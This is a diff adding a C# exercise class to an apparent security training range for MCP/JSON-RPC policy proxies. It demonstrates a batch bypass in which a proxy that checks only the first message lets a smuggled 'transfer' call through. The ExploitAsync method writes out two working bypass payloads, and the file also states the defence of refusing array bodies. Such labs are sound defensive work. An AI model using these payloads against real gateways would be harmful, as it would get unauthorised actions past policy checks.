@@ -1,0 +1,49 @@
+using System.Text.Json;
+using Gatehouse.Pipeline;
+
+namespace Gatehouse.Range;
+
+/// <summary>Several messages in one body, of which the policy sees one or none.</summary>
+public sealed class BatchBypass : FilteredExercise
+{
+    /// <inheritdoc />
+    public override string Id => "batch-bypass";
+
+    /// <inheritdoc />
+    public override string Title => "JSON-RPC batch";
+
+    /// <inheritdoc />
+    public override IReadOnlyList<string> Owasp => ["MCP02", "MCP07"];
+
+    /// <inheritdoc />
+    public override IReadOnlyList<string> Rows => ["ST-06", "T05"];
+
+    /// <inheritdoc />
+    public override string Protection => "stage prove, one message in a body";
+
+    /// <inheritdoc />
+    public override Story Story { get; } = new(
+        "A policy proxy judges the first call of a body. The server behind it, on the official TypeScript SDK, still executes batches.",
+        "Mallory sends an array: a harmless echo, then transfer. Or the transfer as a single element behind a notification.",
+        "Gatehouse refuses an array as a body in every revision, also one of a single element.",
+        "With a stage that looks at the first element and forwards the bytes, money moves again.");
+
+    /// <inheritdoc />
+    public override Need Needs => Need.Node;
+
+    internal override Task<Uri> StartServerAsync(Bed bed) => HostedProcess.SdkHttpAsync(bed);
+
+    internal override async Task<Uri> StartUnguardedAsync(Bed bed) => await NaiveProxy.StartAsync(
+        bed, await StartServerAsync(bed).ConfigureAwait(false), (_, body) => NaiveReading.CallsNothingButEcho(Views.FirstOfBatch(body))).ConfigureAwait(false);
+
+    internal override PipelineParts Replace(PipelineParts parts, Bed bed) => parts with { Prove = new NaiveProve(Views.FirstOfBatch) };
+
+    internal override async Task<IReadOnlyList<Attempt>> ExploitAsync(Scene scene) =>
+    [
+        await SendAsync(scene, "echo and transfer", (client, amount) =>
+            $"[{client.CallBody("echo", new { text = "x" })},{client.CallBody("transfer", new { amount })}]").ConfigureAwait(false),
+        await SendAsync(scene, "notification and transfer", (client, amount) =>
+            "[{\"jsonrpc\":\"2.0\",\"method\":\"notifications/cancelled\",\"params\":{\"requestId\":" + JsonSerializer.Serialize("none") + "}},"
+            + client.CallBody("transfer", new { amount }) + "]").ConfigureAwait(false),
+    ];
+}
